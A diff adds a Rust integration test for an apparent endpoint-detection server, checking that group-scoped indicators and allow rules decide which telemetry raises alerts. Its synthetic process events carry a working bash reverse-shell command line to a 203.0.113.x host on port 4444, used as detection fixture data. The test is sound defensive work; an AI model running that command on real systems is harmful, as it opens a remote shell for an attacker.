@@ -756,6 +756,126 @@ fn agents_report_for_their_own_tenant_and_device_only() {
     assert_eq!(other["alerts"]["raised"], 0, "{other}");
 }
 
+/// Indicators scoped to device groups alert only on devices of those groups; an `allow`
+/// indicator keeps away the alerts whose evidence it covers (a subdomain of a blocked domain,
+/// the process a Sigma rule is about), but not those about what an allowed parent started.
+#[test]
+fn indicators_apply_within_their_scope_and_allow_ones_keep_alerts_away() {
+    let AgentSetup {
+        server,
+        admin,
+        device,
+        web01,
+        ..
+    } = with_web01("indicator-scope", "");
+    let web = server.post("/api/v1/device-groups", &admin, json!({"name": "web"}));
+    let db = server.post("/api/v1/device-groups", &admin, json!({"name": "db"}));
+    let (status, body) = server.call(
+        "PATCH",
+        &format!("/api/v1/devices/{device}"),
+        Some(&admin),
+        Some(&json!({"group_id": web["id"]})),
+    );
+    assert_eq!(status, 200, "{body}");
+    let indicator = |kind: &str, value: &str, action: &str, groups: Value| {
+        server.post(
+            "/api/v1/indicators",
+            &admin,
+            json!({"kind": kind, "value": value, "action": action, "severity": "high",
+                   "title": format!("{action} {value}"), "scope_groups": groups}),
+        );
+    };
+    indicator("ip", "198.51.100.20", "alert", json!([db["id"]]));
+    indicator("ip", "198.51.100.21", "alert", json!([web["id"]]));
+    indicator("domain", "evil.example", "block", json!([]));
+    indicator("domain", "good.evil.example", "allow", json!([]));
+    let allowed_tool = "a1".repeat(32);
+    indicator("sha256", &allowed_tool, "allow", json!([web["id"]]));
+    // Allowed only on the db group: it does not cover web01.
+    let other_tool = "b2".repeat(32);
+    indicator("sha256", &other_tool, "allow", json!([db["id"]]));
+
+    let connection = |secs: u32, ip: &str, url: &str| {
+        json!({"Timestamp": format!("2026-12-01T12:00:{secs:02}Z"), "ActionType": "ConnectionSuccess",
+               "RemoteIP": ip, "RemoteUrl": url})
+    };
+    let reverse_shell = |secs: u32, pid: u32, sha256: &str| {
+        json!({"Timestamp": format!("2026-12-01T12:01:{secs:02}Z"), "ActionType": "ProcessCreated",
+               "FileName": "bash", "FolderPath": "/usr/bin/bash", "ProcessId": pid, "SHA256": sha256,
+               "ProcessCommandLine": format!("bash -i >& /dev/tcp/203.0.113.{secs}/4444 0>&1"),
+               "InitiatingProcessFileName": "sshd", "InitiatingProcessFolderPath": "/usr/sbin/sshd",
+               "InitiatingProcessSHA256": allowed_tool, "InitiatingProcessId": 900})
+    };
+    let rows = json!({"batches": [
+        {"table": "DeviceNetworkEvents", "rows": [
+            connection(1, "198.51.100.20", ""),
+            connection(2, "198.51.100.21", ""),
+            connection(3, "192.0.2.1", "https://cdn.evil.example/x"),
+            connection(4, "192.0.2.2", "https://a.good.evil.example/y"),
+        ]},
+        {"table": "DeviceProcessEvents", "rows": [
+            reverse_shell(1, 4001, &allowed_tool),
+            reverse_shell(2, 4002, &other_tool),
+        ]},
+    ]});
+    let (status, answer) = agent_post(&server, &web01, "/api/v1/agents/telemetry", &rows);
+    assert_eq!(status, 200, "{answer}");
+    let alerts = server.get("/api/v1/alerts?limit=100", &admin);
+    let mut titles: Vec<String> = alerts["items"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .map(|a| {
+            let evidence = a["evidence"].to_string();
+            let pid = ["4001", "4002"].into_iter().find(|p| evidence.contains(p));
+            format!("{} {}", a["title"].as_str().unwrap(), pid.unwrap_or("-"))
+        })
+        .collect();
+    titles.sort();
+    let reverse_shells: Vec<&String> = titles
+        .iter()
+        .filter(|t| t.ends_with(" 4001") || t.ends_with(" 4002"))
+        .collect();
+    assert!(
+        !reverse_shells.is_empty() && reverse_shells.iter().all(|t| t.ends_with(" 4002")),
+        "the allowed process raises nothing, the other one does: {titles:?}"
+    );
+    assert!(
+        titles.contains(&"Indicator matched: alert 198.51.100.21 -".to_string()),
+        "{titles:?}"
+    );
+    assert!(
+        titles.contains(&"Indicator matched: block evil.example -".to_string()),
+        "{titles:?}"
+    );
+    assert!(
+        !titles.iter().any(|t| t.contains("198.51.100.20")),
+        "another group's indicator: {titles:?}"
+    );
+    let block_alerts = titles
+        .iter()
+        .filter(|t| t.contains("block evil.example"))
+        .count();
+    assert_eq!(
+        block_alerts, 1,
+        "the allowed subdomain raises nothing: {titles:?}"
+    );
+    assert_eq!(answer["alerts"]["out_of_scope"], 1, "{answer}");
+    // The allowed subdomain and every rule on the allowed process.
+    assert!(
+        answer["alerts"]["allowed"].as_u64().unwrap() >= 2,
+        "{answer}"
+    );
+    let metrics = server.get("/metrics", &admin);
+    let metrics = metrics.as_str().unwrap();
+    assert!(
+        metrics
+            .lines()
+            .any(|l| l.starts_with("rampart_alerts_allowed_total ") && !l.ends_with(" 0")),
+        "{metrics}"
+    );
+}
+
 /// An agent waiting on `GET /api/v1/agents/actions` gets an action as soon as an analyst creates
 /// it, exactly once (neither a second poll nor a heartbeat gets it again); waiting is bounded in
 /// time and in waiters; heartbeats carry the configured policy and the block indicators.
